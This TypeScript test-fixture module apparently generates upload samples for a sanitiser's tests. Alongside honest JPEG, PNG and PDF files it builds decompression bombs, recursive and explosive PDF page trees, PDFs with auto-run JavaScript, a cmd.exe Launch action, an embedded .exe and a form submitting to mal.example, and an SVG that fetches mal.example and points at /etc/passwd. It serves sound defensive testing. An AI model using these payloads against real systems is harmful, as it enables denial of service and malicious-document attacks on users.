import { deflateRawSync, deflateSync } from 'node:zlib'
import { type PDFDict, PDFDocument, PDFHexString, PDFName, PDFString } from 'pdf-lib'
import sharp from 'sharp'

/** Files that somebody might send, made here: honest ones, and every attack on an upload that we know. */

export async function jpeg({ largura = 600, altura = 400, comGps = false } = {}): Promise<Buffer> {
  const imagem = sharp({ create: { width: largura, height: altura, channels: 3, background: '#c96' } })
  const lida = comGps
    ? imagem
        .withExif({
          IFD0: { Artist: 'segredo-no-exif' },
          IFD3: { GPSLatitude: '23/1 33/1 0/1', GPSLatitudeRef: 'S' },
        })
        .withMetadata({ orientation: 6 })
    : imagem
  return lida.jpeg().toBuffer()
}
export const png = (largura = 600, altura = 400): Promise<Buffer> =>
  sharp({ create: { width: largura, height: altura, channels: 4, background: '#39c' } })
    .png()
    .toBuffer()

const crc = (bytes: Buffer): number => {
  let c = ~0
  for (const b of bytes) {
    c ^= b
    for (let k = 0; k < 8; k++) c = c & 1 ? (c >>> 1) ^ 0xedb88320 : c >>> 1
  }
  return ~c >>> 0
}
export const pedaco = (tipo: string, dados: Buffer): Buffer => {
  const corpo = Buffer.concat([Buffer.from(tipo, 'latin1'), dados])
  const fora = Buffer.alloc(8)
  fora.writeUInt32BE(dados.length, 0)
  fora.writeUInt32BE(crc(corpo), 4)
  return Buffer.concat([fora.subarray(0, 4), corpo, fora.subarray(4)])
}
/** A PNG that says it is `lado` × `lado`, in a few KB: rows of nothing, packed. */
export function pngBomba(lado: number): Buffer {
  const cabeca = Buffer.alloc(13)
  cabeca.writeUInt32BE(lado, 0)
  cabeca.writeUInt32BE(lado, 4)
  cabeca.set([1, 0, 0, 0, 0], 8)
  const linhas = Buffer.alloc(Math.min(lado * (Math.ceil(lado / 8) + 1), 40_000_000))
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pedaco('IHDR', cabeca),
    pedaco('IDAT', deflateSync(linhas)),
    pedaco('IEND', Buffer.alloc(0)),
  ])
}

export async function pdf({ paginas = 1, mudar }: { paginas?: number; mudar?: (p: PDFDocument) => void } = {}) {
  const doc = await PDFDocument.create()
  doc.setAuthor('segredo-no-autor')
  for (let n = 0; n < paginas; n++) doc.addPage([300, 300]).drawText(`boleto ${n}`)
  mudar?.(doc)
  return Buffer.from(await doc.save())
}
const acao = (doc: PDFDocument, entradas: Record<string, unknown>) =>
  doc.context.obj(entradas as Parameters<typeof doc.context.obj>[0]) as unknown as PDFDict

export const comJavascriptAoAbrir = () =>
  pdf({
    mudar: doc =>
      doc.catalog.set(PDFName.of('OpenAction'), acao(doc, { S: 'JavaScript', JS: PDFString.of('app.alert(1)') })),
  })
export const comJavascriptEscondido = () =>
  pdf({ mudar: doc => doc.addJavaScript('mal', 'app.launchURL("https://mal.example")') })
export const comLancamento = () =>
  pdf({
    mudar: doc => {
      const dados = {
        Type: 'Annot',
        Subtype: 'Link',
        Rect: [0, 0, 300, 300],
        A: { S: 'Launch', F: PDFString.of('cmd.exe') },
      }
      doc.getPage(0).node.set(PDFName.of('Annots'), doc.context.obj([doc.context.obj(dados)]))
    },
  })
export async function comAnexo(): Promise<Buffer> {
  const doc = await PDFDocument.create()
  doc.addPage([300, 300])
  await doc.attach(Buffer.from('MZ virus'), 'fatura.exe', { mimeType: 'application/octet-stream' })
  return Buffer.from(await doc.save())
}
export const comFormularioQueEnvia = () =>
  pdf({
    mudar: doc => {
      const botao = { S: 'SubmitForm', F: PDFString.of('https://mal.example') }
      doc.getPage(0).node.set(PDFName.of('AA'), doc.context.obj({ O: acao(doc, botao) }))
    },
  })
/** A link to the web: harmless, and gone from what is kept. */
export const comEndereco = () =>
  pdf({
    mudar: doc => {
      const dados = {
        Type: 'Annot',
        Subtype: 'Link',
        Rect: [0, 0, 9, 9],
        A: { S: 'URI', URI: PDFString.of('https://banco.example') },
      }
      doc.getPage(0).node.set(PDFName.of('Annots'), doc.context.obj([doc.context.obj(dados)]))
    },
  })
export async function protegido(): Promise<Buffer> {
  const bytes = await pdf()
  const doc = await PDFDocument.load(bytes)
  doc.context.trailerInfo.Encrypt = doc.context.register(
    doc.context.obj({
      Filter: 'Standard',
      V: 1,
      R: 2,
      O: PDFHexString.of('00'.repeat(32)),
      U: PDFHexString.of('00'.repeat(32)),
      P: -1,
    }),
  )
  return Buffer.from(await doc.save({ useObjectStreams: false }))
}

/** A PDF by hand, so that nothing tidies it: these objects, one after the other, without a table. */
export const pdfCru = (...objetos: (string | Buffer)[]): Buffer =>
  Buffer.concat([
    Buffer.from('%PDF-1.7\n'),
    ...objetos.flatMap((o, n) => [
      Buffer.from(`${n + 1} 0 obj\n`),
      Buffer.from(o as string, 'latin1'),
      Buffer.from('\nendobj\n'),
    ]),
    Buffer.from('trailer\n<</Root 1 0 R>>\n%%EOF'),
  ])
const catalogo = ['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[3 0 R]/Count 1>>'] as const
const pagina = '<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>'
const fluxo = (dicionario: string, dados: Buffer) =>
  Buffer.concat([
    Buffer.from(`<<${dicionario}/Length ${dados.length}>>\nstream\n`, 'latin1'),
    dados,
    Buffer.from('\nendstream'),
  ])

const nada = (mb: number) => Buffer.alloc(mb * 1024 * 1024, 0x20)
/** Contents that unpack to 64 MB. */
export const pdfBomba = () => pdfCru(...catalogo, pagina, fluxo('/Filter/FlateDecode', deflateSync(nada(64))))
/** Many that are small each. */
export const pdfMuitas = () => {
  const parte = fluxo('/Filter/FlateDecode', deflateSync(nada(20)))
  return pdfCru(...catalogo, pagina, parte, parte, parte, parte, parte, parte)
}
/** Packed twice: a few bytes that become a few more, that become everything. */
export const pdfBombaDupla = () =>
  pdfCru(...catalogo, pagina, fluxo('/Filter[/FlateDecode/FlateDecode]', deflateSync(deflateSync(nada(30)))))
/** Objects packed in a stream that hides how it is packed. */
export const pdfFiltroEscondido = () =>
  pdfCru(
    ...catalogo,
    pagina,
    fluxo(
      '/Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode/#46lateDecode]',
      Buffer.from(deflateSync(nada(30)).toString('hex')),
    ),
  )
/** A tree of pages whose node is its own child. */
export const pdfEmCirculo = () => pdfCru('<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>')
/** Ten levels, each with the one below ten times: ten thousand million pages in a few lines. */
export const pdfEmLeque = () =>
  pdfCru(
    '<</Type/Catalog/Pages 2 0 R>>',
    ...Array.from({ length: 10 }, (_, n) => `<</Type/Pages/Kids[${`${n + 3} 0 R `.repeat(10)}]/Count 10>>`),
    '<</Type/Page/MediaBox[0 0 9 9]>>',
  )
export const pdfFundo = () =>
  pdfCru('<</Type/Catalog/Pages 2 0 R>>', `<</Type/Pages/Kids[3 0 R]/Count 1/X ${'['.repeat(20_000)}>>`, pagina)

/** A ZIP, and so a JAR or a DOCX, of one stored file. */
export function zip(nome = 'a.class'): Buffer {
  const dados = deflateRawSync(Buffer.from('cafebabe'))
  const local = Buffer.alloc(30)
  local.write('PK\u0003\u0004', 'latin1')
  local.writeUInt16LE(nome.length, 26)
  return Buffer.concat([local, Buffer.from(nome), dados])
}
export const svg = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://mal.example")</script><image href="file:///etc/passwd"/></svg>',
)
export const html = Buffer.from('<!doctype html><script>alert(1)</script>')
